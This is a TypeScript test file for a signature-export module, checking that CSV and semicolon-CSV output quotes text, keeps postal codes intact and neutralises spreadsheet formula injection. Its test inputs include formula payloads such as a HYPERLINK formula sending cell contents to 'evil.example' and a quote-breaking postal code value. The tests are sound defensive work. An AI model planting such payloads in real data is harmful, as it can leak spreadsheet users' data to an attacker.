import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { EXPORT_FORMATS } from '../../../common/export-formats.ts';
import { EXPORT_COLUMNS, type ExportedSignature } from '../../../common/exported-signature.ts';

const csv = EXPORT_FORMATS.csv(EXPORT_COLUMNS);
const csvSemicolon = EXPORT_FORMATS['csv-semicolon'](EXPORT_COLUMNS);

const SIGNATURE: ExportedSignature = {
  givenName: 'Ana',
  familyName: null,
  email: 'ana@example.org',
  postalCode: null,
  country: null,
  comment: null,
  display: false,
  contact: true,
  partnerContact: false,
  consentVersion: '0123456789ab',
  consentLang: 'en',
  partner: null,
  signedOn: '2026-01-01',
};

/** Splits rows and cells like spreadsheet programs: quotes matter only if a cell begins with one. */
function parseCells(text: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  let atStart = true;
  for (let index = 0; index < text.length; index++) {
    const character = text[index]!;
    if (quoted) {
      if (character !== '"') cell += character;
      else if (text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else quoted = false;
    } else if (atStart && character === '"') {
      quoted = true;
      atStart = false;
    } else if (character === separator || character === '\n') {
      rows.at(-1)!.push(cell);
      if (character === '\n') rows.push([]);
      cell = '';
      atStart = true;
    } else if (character !== '\r') {
      cell += character;
      atStart = false;
    }
  }
  return rows.slice(0, -1);
}

const lineWith = (comment: string) => csv.line({ ...SIGNATURE, comment });
const commentOf = (line: string) => parseCells(line, ',')[0]![5]!;
const FORMULA = /^[\s\p{C}]*[=+\-@＝＋－＠]/u;

describe('the CSV format', () => {
  it('begins with a byte order mark for Excel, followed by the column names', () => {
    assert.equal(
      csv.head,
      '\ufeff"givenName","familyName","email","postalCode","country","comment","display","contact",' +
        '"partnerContact","consentVersion","consentLang","partner","signedOn"\r\n',
    );
  });

  it('quotes all text, and leaves missing values empty', () => {
    assert.equal(
      csv.line(SIGNATURE),
      '"Ana",,"ana@example.org",,,,false,true,false,"0123456789ab","en",,"2026-01-01"\r\n',
    );
  });

  it('keeps names and comments unchanged', () => {
    for (const text of [
      "O'Brien",
      'Sting',
      'A',
      'Zoë\u0301 🌻',
      'محمد',
      'Anne-Marie',
      'a "quoted", word; and another',
      'two\nlines',
      'a@b.example',
      '1 + 1 = 2',
      '-'.padStart(2, 'x'),
    ]) {
      assert.equal(commentOf(lineWith(text)), text);
    }
  });

  it('prevents spreadsheets from running a cell as a formula', () => {
    for (const text of [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\rx',
      '\0=1',
      '＝1',
      '＋1',
      '－1',
      '＠x',
      '  =1',
      '\u00a0=1',
      '\u200b=1',
      '=HYPERLINK("https://evil.example/?"&A1)',
    ]) {
      const written = commentOf(lineWith(text));
      assert.match(written, /^\s*'/);
      assert.equal(written.replaceAll("'", ''), text);
    }
    assert.ok(csv.line({ ...SIGNATURE, givenName: '=1' }).startsWith(`"'=1"`));
    assert.ok(csv.line({ ...SIGNATURE, email: '+a@example.org' }).includes(`"'+a@example.org"`));
    // An attacker who can write to the database could store this.
    assert.ok(csv.line({ ...SIGNATURE, partner: '=1' }).includes(`"'=1"`));
    assert.ok(csv.line({ ...SIGNATURE, givenName: ['=1'] as never }).startsWith(`"'=1"`));
  });

  it('prevents formulas even if spreadsheets split cells at semicolons or tabs', () => {
    const text = fc
      .array(
        fc.constantFrom('=1', '-', '＝', '"', '""', ';', ',', '\n', '\t', ' ', 'x', "'", '\u200b', '@'),
        {
          maxLength: 12,
        },
      )
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(text, text, fc.constantFrom(',', ';', '\t'), (comment, givenName, separator) => {
        const line = csv.line({ ...SIGNATURE, givenName, comment });
        for (const cell of parseCells(line, separator).flat()) assert.doesNotMatch(cell, FORMULA);
      }),
      { numRuns: 5_000 },
    );
  });

  it('writes one row per signature, whatever the signature contains', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.string(), (givenName, comment) => {
        const rows = parseCells(csv.line({ ...SIGNATURE, givenName, comment }), ',');
        assert.deepEqual([rows.length, rows[0]!.length], [1, 13]);
      }),
    );
  });
});

describe('the CSV format with semicolons', () => {
  const cellsOf = (signature: Partial<ExportedSignature>) =>
    parseCells(csvSemicolon.line({ ...SIGNATURE, ...signature }), ';')[0]!;

  it('has the same columns, separated by semicolons', () => {
    assert.equal(csvSemicolon.head, csv.head.replaceAll(',', ';'));
    assert.equal(
      csvSemicolon.line({ ...SIGNATURE, comment: 'One; "two", three' }),
      '"Ana";;"ana@example.org";;;"One; ""two"", three";false;true;false;"0123456789ab";"en";;"2026-01-01"\r\n',
    );
  });

  it('keeps the zeros of postal codes, and codes that look like dates', () => {
    for (const code of ['02139', '01067', '3-4', '1E5', '1012 AB', 'SW1A 1AA', '00000']) {
      assert.equal(cellsOf({ postalCode: code })[3], `="${code}"`);
    }
  });

  it('treats anything else in a postal code as text that must not run', () => {
    for (const code of ['=1', '1"&A1&"', '+1', '1;=2', '1\t2', '-1', '@1', '"']) {
      const cell = cellsOf({ postalCode: code })[3]!;
      assert.doesNotMatch(cell, FORMULA);
      assert.equal(cell.replaceAll("'", ''), code);
    }
    assert.equal(cellsOf({ postalCode: null })[3], '');
  });

  it('prevents formulas even if spreadsheets split cells at commas or tabs', () => {
    const part = fc.constantFrom(
      '=1',
      '-',
      '＝',
      '"',
      '""',
      ';',
      ',',
      '\n',
      '\t',
      ' ',
      'x',
      "'",
      '\u200b',
      '@',
    );
    const text = fc.array(part, { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(
        text,
        text,
        text,
        fc.constantFrom(',', ';', '\t'),
        (comment, givenName, postalCode, separator) => {
          const line = csvSemicolon.line({ ...SIGNATURE, givenName, comment, postalCode });
          for (const cell of parseCells(line, separator).flat()) {
            if (!/^="[\p{L}\p{Nd} -]+"$/u.test(cell)) assert.doesNotMatch(cell, FORMULA);
          }
        },
      ),
      { numRuns: 5_000 },
    );
  });
});
